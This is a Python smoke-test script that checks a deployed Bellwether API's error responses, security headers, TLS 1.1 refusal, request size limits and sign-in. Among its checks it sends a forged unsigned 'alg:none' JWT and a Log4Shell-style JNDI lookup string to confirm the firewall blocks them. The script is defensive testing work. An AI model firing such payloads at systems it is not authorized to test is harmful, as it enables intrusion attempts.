"""Asks a deployment what only a real one can answer: what `make smoke URL=https://…/v1` calls.

Changes nothing and needs no account. With BELLWETHER_EMAIL and BELLWETHER_PASSWORD it also signs in and lists
tests. Prints a line for each check, and ends with 1 if one fails.
"""

import argparse
import json
import os
import ssl
import sys
import urllib.error
import urllib.request

HEADERS = {
    "strict-transport-security": "max-age=63072000; includeSubDomains",
    "x-content-type-options": "nosniff",
    "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
    "cache-control": "no-store",
    "referrer-policy": "no-referrer",
    "cross-origin-resource-policy": "same-origin",
}


class Api:
    """A deployment, over its own HTTP."""

    def __init__(self, url):
        self.url = url.rstrip("/")

    def read(self, path, headers=()):
        """Status, headers and text of one answer to a GET."""
        return self._send("GET", path, None, headers)

    def ask(self, method, path, body=None, headers=()):
        """Status, headers and parsed body of one answer."""
        status, headers, text = self._send(method, path, body, headers)
        try:
            return status, headers, json.loads(text)
        except ValueError:
            return status, headers, None

    def _send(self, method, path, body, headers):
        data = body if body is None or isinstance(body, bytes) else json.dumps(body).encode()
        kind = {} if body is None else {"content-type": "application/json"}
        request = urllib.request.Request(self.url + path, data, {**kind, **dict(headers)}, method=method)
        try:
            answer = urllib.request.urlopen(request, timeout=30)
        except urllib.error.HTTPError as refused:
            answer = refused
        return answer.status, answer.headers, answer.read().decode(errors="replace")


def is_problem(answer, status, kind):
    """What an answer lacks of being this problem document, with the headers of every answer."""
    got, headers, body = answer
    wrong = [] if got == status else [f"status {got}"]
    if not isinstance(body, dict) or body.get("type") != f"urn:bellwether:problem:{kind}" or body.get("status") != status:
        wrong.append(f"body {json.dumps(body)[:120]}")
    if not headers.get("content-type", "").startswith("application/problem+json"):
        wrong.append(f"content type {headers.get('content-type')}")
    wrong += [f"header {name}: {headers.get(name)}" for name, value in HEADERS.items() if headers.get(name) != value]
    if not headers.get("x-request-id") or (isinstance(body, dict) and body.get("request_id") != headers["x-request-id"]):
        wrong.append("no request id, or another one in the body")
    return wrong


def checks(api):
    """Each check by its name, with what was wrong."""
    yield "a path that is not there is 404", is_problem(api.ask("GET", "/nothing-here"), 404, "not_found")
    yield "another method is 405", is_problem(api.ask("DELETE", "/tests"), 405, "method_not_allowed")
    yield "no token is 401", is_problem(api.ask("GET", "/tests"), 401, "unauthenticated")
    forged = {"authorization": "Bearer eyJhbGciOiJub25lIn0.e30."}
    yield "a forged token is 401", is_problem(api.ask("GET", "/tests", headers=forged), 401, "invalid_token")
    yield "a body that is no object is 400", is_problem(api.ask("POST", "/login", [1]), 400, "malformed_body")
    stranger = {"email": "nobody@example.invalid", "password": "not a password of anybody"}
    yield "a stranger is 401", is_problem(api.ask("POST", "/login", stranger), 401, "wrong_credentials")
    status, _, keys = api.ask("GET", "/.well-known/jwks.json")
    yield "the public keys are there", [] if status == 200 and keys.get("keys") else [f"status {status}"]
    if api.url.startswith("https://"):
        yield "TLS 1.1 is refused", old_tls(api.url)
        status, _, _ = api.ask("POST", "/login", b'{"email": "' + b"a" * 70_000 + b'"}')
        yield "a body over 64 KB is refused", [] if status in (403, 413) else [f"status {status}"]
        script = {"email": "${jndi:ldap://example.invalid/a}", "password": "x"}
        status, _, _ = api.ask("POST", "/login", script, {"user-agent": "${jndi:ldap://example.invalid/a}"})
        yield "the firewall blocks a known attack (fails where waf = false)", [] if status == 403 else [f"status {status}"]
    if os.environ.get("BELLWETHER_PASSWORD"):
        yield from signed_in(api)


def old_tls(url):
    """A handshake of TLS 1.1 at most, which must not succeed."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.load_default_certs()
    context.set_ciphers("DEFAULT:@SECLEVEL=0")
    context.minimum_version = context.maximum_version = ssl.TLSVersion.TLSv1_1
    try:
        urllib.request.urlopen(url, timeout=10, context=context)
    except urllib.error.HTTPError:
        return ["it was taken"]
    except OSError:
        return []
    return ["it was taken"]


def signed_in(api):
    person = {"email": os.environ["BELLWETHER_EMAIL"], "password": os.environ["BELLWETHER_PASSWORD"]}
    status, _, body = api.ask("POST", "/login", person)
    yield "sign-in gives a token", [] if status == 200 and body.get("access_token") else [f"status {status}"]
    if status == 200:
        token = {"authorization": f"Bearer {body['access_token']}"}
        status, _, page = api.ask("GET", "/tests?limit=1", headers=token)
        yield "the token opens the list of tests", [] if status == 200 and "tests" in page else [f"status {status}"]


def main():
    parser = argparse.ArgumentParser(description="Ask a deployment what only a real one can answer.")
    parser.add_argument("url", help="the API's URL with the stage: terraform output url")
    failed = 0
    for name, wrong in checks(Api(parser.parse_args().url)):
        failed += bool(wrong)
        print(f"{'FAILED' if wrong else 'ok    '} {name}" + "".join(f"\n         {each}" for each in wrong))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
